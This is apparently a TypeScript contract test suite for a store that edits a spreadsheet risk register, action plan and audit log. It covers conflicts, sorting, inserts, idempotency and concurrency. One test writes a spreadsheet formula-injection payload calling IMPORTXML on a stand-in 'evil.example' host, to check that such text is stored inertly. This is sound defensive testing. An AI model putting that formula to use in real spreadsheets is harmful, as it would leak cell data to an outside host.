import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { loadSettings } from '../../src/config/load-settings.js';
import type { Settings } from '../../src/config/settings.js';
import { type CellValue, isBlank } from '../../src/domain/cell.js';
import { DomainError, type DomainErrorCode } from '../../src/domain/domain-error.js';
import type { AuditRecord } from '../../src/domain/register/raw-register.js';
import type { RegisterStore, RowUpdate, WriteRequest } from '../../src/ports/register-store.js';
import { SEED_RISK_HEADERS } from '../helpers/raw-register.js';
import { describeTabsByHeaders } from './tabs-by-headers.js';

/** A store under test, with a way to see and change the register as a human would. */
export interface StoreFixture {
  store: RegisterStore;
  /** What a human sees now: tab title → all rows (header row first, blank rows kept as [] or nulls) */
  snapshot(): Promise<Record<string, CellValue[][]>>;
  /** Change a tab as a human would between the bot's read and write: sort, insert rows, edit cells. */
  humanEdit(title: string, edit: (rows: CellValue[][]) => CellValue[][]): Promise<void>;
  close(): Promise<void>;
}

/** Builds a fresh register holding `initial` (tab title → rows, header row first) and a store over it. */
export type MakeStoreFixture = (initial: Record<string, CellValue[][]>) => Promise<StoreFixture>;

/** The tab settings every fixture must give its store: the shipped defaults. */
export const contractTabs: Settings['tabs'] = loadSettings().tabs;

/** The seed risk log's header row, with a Trend column before Status. */
const RISK_HEADERS = [...SEED_RISK_HEADERS.slice(0, -1), 'Trend', 'Status'];
const ACTION_HEADERS = [
  'Action ID',
  'Action',
  'Lead',
  'Timescale',
  'Target date',
  'Status',
  'Progress %',
  'Latest note',
  'Date last updated',
];
const AUDIT_HEADERS = ['When', 'Who', 'Item', 'Field', 'Old value', 'New value', 'Via', 'Note'];

// Serial dates: 15 Sep 2010, 21 Sep 2010, 30 Jun 2011, 31 Mar 2012.
const RAISED = 40436;
const UPDATED = 40442;
const JUNE_11 = 40724;
const MARCH_12 = 41000;

/** Columns (0-based) of the risk log above. */
const R = { id: 0, impact: 5, probability: 6, rating: 7, band: 8, trend: 13, status: 14 } as const;
/** Columns (0-based) of the action plan above. */
const A = { id: 0, targetDate: 4, status: 5, progress: 6, note: 7 } as const;

/** A small register in the shape of the seed risk log and plan, with a blank row inside the risk log. */
export function sampleRegister(): Record<string, CellValue[][]> {
  return {
    Risks: [
      RISK_HEADERS,
      [
        'R - 1',
        RAISED,
        'Director of commission ing',
        'gap in the LA commissioning infrastructure',
        'no leadership to drive forward the programme',
        3,
        2,
        6,
        'High',
        'Interim lead commissioner appointed',
        '31st Dec 20101',
        'Dir of Commissioning',
        UPDATED,
        'No Change',
        'Open',
      ],
      [
        'R - 2',
        RAISED,
        'PCT Dir of ommissioni ng',
        'NHS White Paper and interim changes to local commissioning',
        'loss of continuity in leadership',
        3,
        2,
        6,
        'High',
        'planned handover in the event of change of lead',
        '31st October 2010',
        'PCT Dir of Commissioning',
        UPDATED,
        'No Change',
        'Open',
      ],
      [],
      [
        'R - 3',
        RAISED,
        'Lead Commissio ner',
        'concerns about accuracy of data and information',
        'impacts on assumptions in delivery plans',
        2,
        2,
        4,
        'Medium',
        'Project Groups will double check information',
        '31st March 2011',
        'lead commissioners',
        UPDATED,
        'No Change',
        'Open',
      ],
      [
        'R - 4',
        RAISED,
        'service manager',
        'risk averse practice and staff anxieties about changes',
        'failure to reduce reliance on residential care',
        3,
        1,
        3,
        'Medium',
        'Staff Communication Plan and cultural change',
        '31st March 2011',
        'service manager',
        UPDATED,
        'Decreasing',
        'Open',
      ],
    ],
    Actions: [
      ACTION_HEADERS,
      [
        'A-1',
        'Market Development Plan for supported living',
        'Lead Commissioner',
        'Mar - June 11',
        JUNE_11,
        'In progress',
        50,
        'Draft shared with providers',
        UPDATED,
      ],
      [
        'A-2',
        'Workforce Development Plan',
        'Head of Workforce Development',
        '2011/12',
        MARCH_12,
        'Not started',
        0,
        null,
        null,
      ],
    ],
    'Audit log': [AUDIT_HEADERS],
  };
}

/** Blank cells as null, trailing blanks and blank rows dropped: the same register however a store shows gaps. */
export function normalizeSnapshot(snapshot: Record<string, CellValue[][]>): Record<string, CellValue[][]> {
  const tabs: Record<string, CellValue[][]> = {};
  for (const [title, rows] of Object.entries(snapshot)) {
    const trimmed = rows.map((row) => {
      const cells = row.map((cell) => (isBlank(cell) ? null : cell));
      while (cells.length > 0 && cells.at(-1) === null) cells.pop();
      return cells;
    });
    while (trimmed.length > 0 && trimmed.at(-1)?.length === 0) trimmed.pop();
    tabs[title] = trimmed;
  }
  return tabs;
}

function auditRecord(item: string, field: string, oldValue: string, newValue: string): AuditRecord {
  return {
    when: '2011-03-01T10:15:00+00:00',
    who: 'U0LEADCOMM',
    item,
    field,
    oldValue,
    newValue,
    via: 'command',
    note: '',
  };
}

/** The audit line as it reads back: the empty note is a blank cell. */
function auditLine(record: AuditRecord): CellValue[] {
  return [record.when, record.who, record.item, record.field, record.oldValue, record.newValue, record.via];
}

function request(updates: RowUpdate[], audit: AuditRecord[] = []): WriteRequest {
  return { updates, inserts: [], audit };
}

async function refusal(promise: Promise<unknown>, code: DomainErrorCode): Promise<DomainError> {
  const error = await promise.then(
    () => undefined,
    (reason: unknown) => reason,
  );
  expect(error, `expected the store to refuse with ${code}`).toBeInstanceOf(DomainError);
  expect((error as DomainError).code).toBe(code);
  return error as DomainError;
}

/**
 * The behaviour every RegisterStore must show, whatever holds the register.
 * `makeFixture` builds a fresh register per test, with a store configured with
 * `contractTabs`.
 */
export function describeRegisterStoreContract(name: string, makeFixture: MakeStoreFixture): void {
  describe(`${name} (RegisterStore contract)`, () => {
    describeTabsByHeaders(makeFixture);

    let fx: StoreFixture;
    const seen = async (): Promise<Record<string, CellValue[][]>> => normalizeSnapshot(await fx.snapshot());

    beforeEach(async () => {
      fx = await makeFixture(sampleRegister());
    });
    afterEach(async () => {
      await fx.close();
    });

    describe('loading', () => {
      it('when the register is loaded, then every tab comes with its headers and real row numbers', async () => {
        const register = await fx.store.load();
        expect(register.source).not.toBe('');
        const { risks, actions, audit } = register.tabs;
        expect(risks).toMatchObject({ key: 'risks', title: 'Risks', found: true, headerRow: 1, headers: RISK_HEADERS });
        expect(risks.rows[0]?.cells).toEqual(sampleRegister().Risks?.[1]);
        expect(actions).toMatchObject({ key: 'actions', found: true, headerRow: 1, headers: ACTION_HEADERS });
        expect(actions.rows.map((row) => [row.row, row.cells[A.id], row.cells[A.targetDate]])).toEqual([
          [2, 'A-1', JUNE_11],
          [3, 'A-2', MARCH_12],
        ]);
        expect(audit).toMatchObject({ found: true, headerRow: 1, headers: AUDIT_HEADERS, rows: [] });
      });

      it('when a tab has blank rows, then they are skipped and the row numbers stay real', async () => {
        const { risks } = (await fx.store.load()).tabs;
        expect(risks.rows.map((row) => [row.row, row.cells[R.id]])).toEqual([
          [2, 'R - 1'],
          [3, 'R - 2'],
          [5, 'R - 3'],
          [6, 'R - 4'],
        ]);
      });

      it('when blank rows come before the header line, then the header row is the first row with text', async () => {
        await fx.humanEdit('Actions', (rows) => [[], [], ...rows]);
        const { actions } = (await fx.store.load()).tabs;
        expect(actions.headerRow).toBe(3);
        expect(actions.rows.map((row) => row.row)).toEqual([4, 5]);
      });

      it('when a title line sits above the headers, then the header line is the one where the columns are found', async () => {
        await fx.humanEdit('Risks', (rows) => [['APPENDIX B'], ['Risk Log'], [], ...rows]);
        const { risks } = (await fx.store.load()).tabs;
        expect(risks.headerRow).toBe(4);
        expect(risks.headers[R.id]).toBe('Risk No.');
        expect(risks.rows.map((row) => row.cells[R.id])).toEqual(['R - 1', 'R - 2', 'R - 3', 'R - 4']);
      });

      it('when a tab is missing, then it reads as not found with no headers or rows', async () => {
        const { people } = (await fx.store.load()).tabs;
        expect(people).toMatchObject({ key: 'people', found: false, headers: [], rows: [] });
      });
    });

    describe('updating', () => {
      it('when an item is updated, then only the named cells change and the audit rows are appended', async () => {
        const before = await seen();
        const audit = [auditRecord('R-2', 'impact', '3', '2'), auditRecord('R-2', 'rating', '6', '4')];
        const result = await fx.store.write(
          request(
            [
              {
                tab: 'risks',
                id: 'R-2',
                changes: [
                  { field: 'impact', expected: 3, value: 2 },
                  { field: 'rating', expected: 6, value: 4 },
                  { field: 'band', expected: 'High', value: 'Medium' },
                ],
              },
            ],
            audit,
          ),
        );
        expect(result).toMatchObject({ cellsWritten: ['Risks!F3', 'Risks!H3', 'Risks!I3'], auditRowsAppended: 2 });
        const expected = structuredClone(before);
        const row = expected.Risks![2]!;
        [row[R.impact], row[R.rating], row[R.band]] = [2, 4, 'Medium'];
        expected['Audit log']!.push(...audit.map(auditLine));
        expect(await seen()).toEqual(expected);
      });

      it('when the expected values equal the cells as people see them (3 and "3", empty and ""), then the update goes ahead', async () => {
        await fx.store.write(
          request([
            {
              tab: 'actions',
              id: 'a2',
              changes: [
                { field: 'latestNote', expected: '', value: 'Scoping started' },
                { field: 'progress', expected: '0', value: 10 },
              ],
            },
          ]),
        );
        const a2 = (await seen()).Actions![2]!;
        expect([a2[A.progress], a2[A.note]]).toEqual([10, 'Scoping started']);
      });

      it('when a date is written as a serial number, then it reads back as the same serial number', async () => {
        await fx.store.write(
          request([
            { tab: 'actions', id: 'A-2', changes: [{ field: 'dateLastUpdated', expected: null, value: 40603 }] },
          ]),
        );
        const { actions } = (await fx.store.load()).tabs;
        expect(actions.rows[1]?.cells[8]).toBe(40603);
      });

      it('when a human sorted the rows after the read, then the update lands on the row that now holds the ID and no other', async () => {
        await fx.store.load();
        await fx.humanEdit('Risks', ([header = [], ...rows]) => [
          header,
          ...rows.filter((row) => !row.every(isBlank)).reverse(),
        ]);
        const sorted = await seen();
        expect(sorted.Risks!.map((row) => row[R.id])).toEqual(['Risk No.', 'R - 4', 'R - 3', 'R - 2', 'R - 1']);
        const result = await fx.store.write(
          request([{ tab: 'risks', id: 'R-2', changes: [{ field: 'status', expected: 'Open', value: 'Closed' }] }]),
        );
        expect(result.cellsWritten).toEqual(['Risks!O4']);
        sorted.Risks![3]![R.status] = 'Closed';
        expect(await seen()).toEqual(sorted);
      });

      it('when a human inserted rows above after the read, then the update lands on the row that now holds the ID and no other', async () => {
        await fx.store.load();
        const inserted: CellValue[] = [
          'R - 0',
          RAISED,
          'Head of contracts',
          "current contract arrangements aren't aligned",
          'slippage in delivery',
          2,
          2,
          4,
          'Medium',
        ];
        await fx.humanEdit('Risks', ([header = [], ...rows]) => [header, inserted, [], ...rows]);
        const edited = await seen();
        const result = await fx.store.write(
          request([
            { tab: 'risks', id: 'r1', changes: [{ field: 'trend', expected: 'No Change', value: 'Increasing' }] },
          ]),
        );
        expect(result.cellsWritten).toEqual(['Risks!N4']);
        edited.Risks![3]![R.trend] = 'Increasing';
        expect(await seen()).toEqual(edited);
      });
    });

    describe('refusing', () => {
      it('when the ID is unknown, then item_not_found and nothing changes', async () => {
        const before = await seen();
        const error = await refusal(
          fx.store.write(
            request(
              [{ tab: 'risks', id: 'R-99', changes: [{ field: 'status', expected: 'Open', value: 'Closed' }] }],
              [auditRecord('R-99', 'status', 'Open', 'Closed')],
            ),
          ),
          'item_not_found',
        );
        expect(error.details).toMatchObject({ tab: 'Risks', id: 'R-99' });
        expect(await seen()).toEqual(before);
      });

      it('when the ID is on two rows, then item_duplicated names both rows and nothing changes', async () => {
        await fx.humanEdit('Risks', (rows) => [...rows, ['R3', RAISED, 'Lead Commissioner', 'a copy pasted by hand']]);
        const before = await seen();
        const error = await refusal(
          fx.store.write(
            request(
              [{ tab: 'risks', id: 'R - 3', changes: [{ field: 'status', expected: 'Open', value: 'Closed' }] }],
              [auditRecord('R-3', 'status', 'Open', 'Closed')],
            ),
          ),
          'item_duplicated',
        );
        expect(error.details).toMatchObject({ tab: 'Risks', id: 'R - 3', rows: [5, 7] });
        expect(await seen()).toEqual(before);
      });

      it('when a cell was changed by a human since it was read, then conflict and nothing changes, not even the other cells or the audit log', async () => {
        await fx.store.load();
        await fx.humanEdit('Risks', (rows) =>
          rows.map((row) => (row[R.id] === 'R - 1' ? row.map((cell, i) => (i === R.probability ? 3 : cell)) : row)),
        );
        const before = await seen();
        const error = await refusal(
          fx.store.write(
            request(
              [
                { tab: 'actions', id: 'A-1', changes: [{ field: 'progress', expected: 50, value: 75 }] },
                {
                  tab: 'risks',
                  id: 'R-1',
                  changes: [
                    { field: 'impact', expected: 3, value: 2 },
                    { field: 'probability', expected: 2, value: 1 },
                  ],
                },
              ],
              [auditRecord('A-1', 'progress', '50', '75'), auditRecord('R-1', 'probability', '2', '1')],
            ),
          ),
          'conflict',
        );
        expect(error.details).toMatchObject({ tab: 'Risks', id: 'R-1', field: 'probability', expected: 2, actual: 3 });
        expect(await seen()).toEqual(before);
      });

      it('when a field has no column in the tab, then sheet_schema_invalid names the tab and the header to add, and nothing changes', async () => {
        const before = await seen();
        const error = await refusal(
          fx.store.write(
            request(
              [
                {
                  tab: 'actions',
                  id: 'A-1',
                  changes: [{ field: 'originalTargetDate', expected: null, value: JUNE_11 }],
                },
              ],
              [auditRecord('A-1', 'originalTargetDate', '', '30 Jun 2011')],
            ),
          ),
          'sheet_schema_invalid',
        );
        expect(error.details).toMatchObject({ tab: 'Actions', header: 'Original target date' });
        expect(error.message).toContain('Original target date');
        expect(await seen()).toEqual(before);
      });

      it('when the request is empty, then nothing is written', async () => {
        const before = await seen();
        expect(await fx.store.write({ updates: [], inserts: [], audit: [] })).toEqual({
          cellsWritten: [],
          auditRowsAppended: 0,
        });
        expect(await seen()).toEqual(before);
      });
    });

    describe('values', () => {
      it('when text starts with = + - or @, then it is stored as that text, never as a formula', async () => {
        let previous: CellValue = 'Draft shared with providers';
        for (const text of [
          '=IMPORTXML("http://evil.example/?"&B2,"//a")',
          '+44 20 7946 0000',
          '-1 week',
          '@channel see notes',
          '=1+1',
        ]) {
          await fx.store.write(
            request([
              { tab: 'actions', id: 'A-1', changes: [{ field: 'latestNote', expected: previous, value: text }] },
            ]),
          );
          expect((await seen()).Actions![1]![A.note]).toBe(text);
          expect((await fx.store.load()).tabs.actions.rows[0]?.cells[A.note]).toBe(text);
          previous = text;
        }
      });

      it('when a 5,000-character Unicode note is written, then it reads back exactly', async () => {
        const piece = Array.from('Cynllun gweithredu: ŵ ŷ — patients’ “care” 患者 🙂 Ünïcødé\nline two\t');
        const note = Array.from({ length: 5000 }, (_, i) => piece[i % piece.length]).join('');
        expect(Array.from(note)).toHaveLength(5000);
        await fx.store.write(
          request([
            {
              tab: 'actions',
              id: 'A-1',
              changes: [{ field: 'latestNote', expected: 'Draft shared with providers', value: note }],
            },
          ]),
        );
        expect((await fx.store.load()).tabs.actions.rows[0]?.cells[A.note]).toBe(note);
      });
    });

    describe('inserting', () => {
      it('when an item is inserted, then a row is added after the last row with text and an existing ID is refused', async () => {
        const before = await seen();
        const result = await fx.store.write({
          updates: [],
          inserts: [
            {
              tab: 'risks',
              values: {
                id: 'R - 14',
                dateRaised: UPDATED,
                owner: 'head of contracts',
                description: '=not a formula',
                impact: 2,
                probability: 2,
                rating: 4,
                band: 'Medium',
                status: 'Open',
              },
            },
          ],
          audit: [auditRecord('R-14', 'new', '', 'R - 14')],
        });
        expect(result.cellsWritten).toEqual(
          ['A', 'B', 'C', 'D', 'F', 'G', 'H', 'I', 'O'].map((column) => `Risks!${column}7`),
        );
        const after = await seen();
        expect(after.Risks).toEqual([
          ...before.Risks!,
          [
            'R - 14',
            UPDATED,
            'head of contracts',
            '=not a formula',
            null,
            2,
            2,
            4,
            'Medium',
            null,
            null,
            null,
            null,
            null,
            'Open',
          ],
        ]);
        expect(after['Audit log'], JSON.stringify(after['Audit log'])).toHaveLength(2);
        for (const id of ['R14', 'R-1']) {
          const error = await refusal(
            fx.store.write({
              updates: [],
              inserts: [{ tab: 'risks', values: { id, status: 'Open' } }],
              audit: [auditRecord(id, 'new', '', id)],
            }),
            'item_exists',
          );
          expect(error.details).toMatchObject({ tab: 'Risks', id });
        }
        expect(await seen()).toEqual(after);
      });
    });

    describe('audit log', () => {
      it('when the audit tab is missing, then the first audit row creates it with its headers', async () => {
        const bare = await makeFixture({ Risks: sampleRegister().Risks! });
        try {
          const record = auditRecord('R-4', 'trend', 'Decreasing', 'No Change');
          await bare.store.write(
            request(
              [{ tab: 'risks', id: 'R-4', changes: [{ field: 'trend', expected: 'Decreasing', value: 'No Change' }] }],
              [record],
            ),
          );
          const after = normalizeSnapshot(await bare.snapshot());
          expect(after['Audit log']).toEqual([AUDIT_HEADERS, auditLine(record)]);
          expect((await bare.store.load()).tabs.audit).toMatchObject({
            found: true,
            headerRow: 1,
            headers: AUDIT_HEADERS,
          });
        } finally {
          await bare.close();
        }
      });
    });

    describe('exactly once', () => {
      it('when a write names its request, then its audit lines carry the ID, and the same request again is refused as already applied, nothing written', async () => {
        const record = auditRecord('R-4', 'trend', 'Decreasing', 'No Change');
        const change: WriteRequest = {
          ...request(
            [{ tab: 'risks', id: 'R-4', changes: [{ field: 'trend', expected: 'Decreasing', value: 'No Change' }] }],
            [record],
          ),
          changeId: 'slack:trigger:1334.5678',
        };
        await fx.store.write(change);
        const once = await seen();
        expect(once['Audit log']).toEqual([
          [...AUDIT_HEADERS, 'Change ID'],
          [...auditLine(record), null, 'slack:trigger:1334.5678'],
        ]);
        expect(once.Risks![5]![R.trend]).toBe('No Change');
        await refusal(fx.store.write(change), 'already_applied');
        expect(await seen()).toEqual(once);
      });

      it('when the request is new, then a change ID already in the log for another request does not stop it', async () => {
        await fx.store.write({
          ...request([], [auditRecord('R-1', 'note', '', 'first')]),
          changeId: 'slack:trigger:1',
        });
        await fx.store.write({
          ...request([], [auditRecord('R-1', 'note', '', 'second')]),
          changeId: 'slack:trigger:2',
        });
        await fx.store.write(request([], [auditRecord('R-1', 'note', '', 'third, from the console')]));
        const log = (await seen())['Audit log']!;
        expect(log.slice(1).map((row) => [row[5], row[8] ?? null])).toEqual([
          ['first', 'slack:trigger:1'],
          ['second', 'slack:trigger:2'],
          ['third, from the console', null],
        ]);
      });

      it('when writes without a request ID are made, then the Audit log gets no Change ID column', async () => {
        await fx.store.write(request([], [auditRecord('R-1', 'note', '', 'console')]));
        expect((await seen())['Audit log']![0]).toEqual(AUDIT_HEADERS);
      });
    });

    describe('concurrency', () => {
      it('when two writes start at once, then both land, one after the other, and neither is lost', async () => {
        await Promise.all([
          fx.store.write(
            request(
              [{ tab: 'risks', id: 'R-1', changes: [{ field: 'status', expected: 'Open', value: 'Closed' }] }],
              [auditRecord('R-1', 'status', 'Open', 'Closed')],
            ),
          ),
          fx.store.write(
            request(
              [{ tab: 'risks', id: 'R-3', changes: [{ field: 'trend', expected: 'No Change', value: 'Increasing' }] }],
              [auditRecord('R-3', 'trend', 'No Change', 'Increasing')],
            ),
          ),
        ]);
        const after = await seen();
        expect(after.Risks![1]![R.status]).toBe('Closed');
        expect(after.Risks![4]![R.trend]).toBe('Increasing');
        expect(
          after['Audit log']!.slice(1)
            .map((row) => row[2])
            .sort(),
        ).toEqual(['R-1', 'R-3']);
      });

      it('when two writes race on the same cell, then one lands and the other is refused as a conflict', async () => {
        const write = (value: number): Promise<unknown> =>
          fx.store.write(
            request(
              [{ tab: 'actions', id: 'A-1', changes: [{ field: 'progress', expected: 50, value }] }],
              [auditRecord('A-1', 'progress', '50', String(value))],
            ),
          );
        const outcomes = await Promise.allSettled([write(60), write(70)]);
        const landed = outcomes.findIndex((outcome) => outcome.status === 'fulfilled');
        const refused = outcomes.find((outcome) => outcome.status === 'rejected');
        expect(landed).toBeGreaterThanOrEqual(0);
        expect((refused as PromiseRejectedResult | undefined)?.reason).toMatchObject({ code: 'conflict' });
        const after = await seen();
        expect(after.Actions![1]![A.progress]).toBe(landed === 0 ? 60 : 70);
        expect(after['Audit log'], JSON.stringify(after['Audit log'])).toHaveLength(2);
      });
    });
  });
}
